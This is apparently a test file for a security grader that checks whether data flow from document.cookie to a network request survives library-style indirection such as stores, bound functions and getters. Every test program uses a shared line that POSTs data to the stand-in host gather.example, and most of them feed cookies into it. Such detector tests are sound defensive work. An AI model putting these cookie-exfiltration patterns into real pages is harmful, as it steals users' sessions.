import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * Ways that data takes inside of libraries that a bundler put into a script: stores, wrappers of functions, cells that
 * know who reads them. Each is a program whose only way out is one request.
 */

const SEND = "const send = (x) => fetch('https://gather.example/c', { method: 'POST', body: JSON.stringify(x) });";

/** Names that methods of the platform have, too. */
const OTHERS = ['get', 'set', 'add', 'on', 'off', 'once', 'emit', 'call', 'all', 'map', 'each', 'find', 'init', 'html'];

const WAYS: readonly (readonly [name: string, program: (data: string) => string])[] = [
  [
    'what a module of a bundle makes, which is the module itself',
    (data) => `
      var made = (all, module) => () => (module || all[Object.keys(all)[0]]((module = { exports: {} }).exports, module), module.exports);
      var wait_js = made({ 'wait.js'(exports, module) {
        module.exports = function wait(run, ms) {
          var last;
          function after() { var given = last; last = void 0; return run.apply(null, given); }
          function waiting() { last = arguments; setTimeout(after, ms); }
          return waiting;
        };
      } });
      var wait = wait_js();
      var later = wait((x) => send(x), 50);
      later(${data});`,
  ],
  [
    'a cipher, which takes its text apart into bits',
    (data) => `
      const made = {};
      (function mix(to, from) { for (const k in from) to[k] = from[k]; })(made, {
        encrypt: function (text, key) {
          const words = [];
          for (let i = 0; i < text.length; i++) words[i >>> 2] |= (BOX[text.charCodeAt(i) & 255] ^ key[i & 3]) << (24 - (i & 3) * 8);
          return { toString: () => words.map((one) => (one >>> 0).toString(16)).join('') };
        },
      });
      send(made.encrypt(${data}, KEY).toString());`,
  ],
  [
    'a cell that a function fills, which has it as a parameter',
    (data) => `
      function fill(cell) { const found = cell.read(); cell.kept = found; }
      class Cell {
        constructor(read) { this.read = read; }
        get value() { fill(this); return this.kept; }
      }
      const cell = new Cell(() => 'c' + ${data});
      setInterval(() => send(cell.value), 1000);`,
  ],
  [
    'a function in whose place another one may stand',
    (data) => `
      function watch(read, tell) {
        if (!tell) tell = () => {};
        tell(read());
      }
      watch(() => ${data}, (x) => send(x));`,
  ],
  [
    'a way to call that is put into a copy',
    (data) => `
      const extend = Object.assign;
      function watch(read, tell, { call }) { const args = [read()]; call ? call(tell, args) : tell(...args); }
      function watched(read, tell, options) {
        const own = extend({}, options);
        own.call = (fn, args) => run(fn, args);
        watch(read, tell, own);
      }
      function run(fn, args) { return args ? fn(...args) : fn(); }
      watched(() => ${data}, (x) => send(x), {});`,
  ],
  [
    'a reader that is bound to what it reads',
    (data) => `
      function read() { return this.kept; }
      function put(cell, x) { cell.kept = x; }
      function cellOf(first) { const cell = { kept: first }; return [read.bind(cell), (x) => put(cell, x)]; }
      const [get, set] = cellOf('');
      set(${data});
      send(get());`,
  ],
  [
    'a function that stands in a table under a key',
    (data) => `
      const jobs = new Map();
      function keep(x) { jobs.set({}, { run: () => x }); }
      keep(${data});
      for (const job of jobs.values()) send(job.run());`,
  ],
  [
    'an object that a function has as its this',
    (data) => `
      function out() { send(this.text); }
      const note = {};
      note.text = ${data};
      out.call(note);`,
  ],
  [
    'a store whose changes are given a part of its state, which a getter finds',
    (data) => `
      const inside = (all, path) => path.reduce((at, key) => at[key], all);
      function partOf(store, path) {
        const part = { store };
        Object.defineProperties(part, { state: { get: function () { return inside(store.state, path); } } });
        return part;
      }
      function add(store, name, change, part) {
        (store.changes[name] || (store.changes[name] = [])).push((x) => change.call(store, part.state, x));
      }
      class Store {
        constructor(options) {
          this.state = options.state;
          this.changes = {};
          const part = partOf(this, []);
          Object.keys(options.changes).forEach((name) => add(this, name, options.changes[name], part));
        }
        commit(name, x) { this.changes[name].forEach((change) => change(x)); }
      }
      const store = new Store({ state: { text: '' }, changes: { put(state, x) { state.text = x; } } });
      store.commit('put', ${data});
      setTimeout(() => send(store.state.text), 1000);`,
  ],
  [
    'a function that is bound to what it reads and fills',
    (data) => `
      function cell(...given) { if (given.length > 0) this.kept = given[0]; else return this.kept; }
      function cellOf(first) { return cell.bind({ kept: first }); }
      const text = cellOf('');
      text(${data});
      send(text());`,
  ],
  [
    'a part of another object that is made where there is none',
    (data) => `
      const app = {};
      function fill(x) { const box = app.box || (app.box = {}); box.text = x; }
      fill(${data});
      setTimeout(() => send(app.box.text), 1000);`,
  ],
  [
    'a function that getters of a module’s give, in another object',
    (data) => `
      var give = (to, all) => { for (var name in all) Object.defineProperty(to, name, { get: all[name], enumerable: true }); };
      var parts = {};
      give(parts, { tell: () => tell, hush: () => hush });
      function tell(x) { send(x); }
      function hush() {}
      function _() {}
      function mix(from) { Object.keys(from).forEach((name) => { var part = _[name] = from[name]; return part; }); }
      mix(parts);
      _.tell(${data});`,
  ],
  [
    'one of many functions that all keep their names in another object',
    (data) => `
      const parts = { run: (x) => send(x), ${OTHERS.map((name) => `${name}: () => '${name}'`).join(', ')} };
      const all = {};
      Object.keys(parts).forEach((name) => { all[name] = parts[name]; });
      all.run(${data});`,
  ],
  [
    'a function that several makers put around it',
    (data) => `
      const makerOf = (auto) => function (name, run) { return isMark(run) ? marked(name, run) : isText(run) ? wrapped(run.name, run, auto) : isRun(run) ? wrapped(name, run, auto) : void 0; };
      const act = makerOf(false);
      function wrapped(name, run, auto) {
        function done() { return (function (at, given, self, list) { try { return given.apply(self, list); } finally { at++; } })(0, run, this, arguments); }
        return (done.isAct = true), done;
      }
      function watch(read, tell) { const told = act('watch', tell); setInterval(() => told(read()), 1000); }
      watch(() => ${data}, (x) => send(x));`,
  ],
];

describe('data goes on by', () => {
  it.each(WAYS)('%s', async (_, program) => {
    expect(await graded({ content: SEND + program('document.cookie') })).toBe('F');
    expect(await graded({ content: SEND + program("'dark'") })).toMatch(/^A/);
  });
});

/** The same ways with the data in another place than in what is sent. */
const APART: readonly (readonly [name: string, program: string])[] = [
  [
    'a function that only holds it, and is handed over with what is sent',
    'const options = { make: () => document.cookie, at: 1 }; send({ options });',
  ],
  [
    'another property of what a function has as its this',
    'function out() { send(this.title); } const note = { title: 1 }; note.text = document.cookie; out.call(note);',
  ],
  [
    'another function of a pair',
    `function cellOf(first) { const cell = { kept: first }; return [function () { return this.at; }.bind({ at: 1 }), (x) => { cell.kept = x; }]; }
      const [get, set] = cellOf(''); set(document.cookie); send(get());`,
  ],
  [
    'another of many functions that keep their names',
    `const parts = { run: (x) => send(x), ${OTHERS.map((name) => `${name}: () => '${name}'`).join(', ')} };
      const all = {};
      Object.keys(parts).forEach((name) => { all[name] = parts[name]; });
      all.html(document.cookie);`,
  ],
  [
    'another property of what a getter gives',
    `const kept = { text: '', at: 1 };
      const part = {};
      Object.defineProperty(part, 'state', { get: function () { return kept; } });
      part.state.text = document.cookie;
      send(kept.at);`,
  ],
  [
    'another part of an object whose part is made where there is none',
    `const app = { page: {} };
      const box = app.box || (app.box = {});
      box.text = document.cookie;
      send(app.page.text);`,
  ],
  [
    'itself, in an object that holds itself',
    `class Cell { constructor() { this.self = this; this.text = document.cookie; this.at = 1; } out() { send(this.self.at); } }
      new Cell().out();`,
  ],
];

it.each(APART)('is not sent by %s', async (_, program) => {
  expect(await graded({ content: SEND + program })).toMatch(/^A/);
});
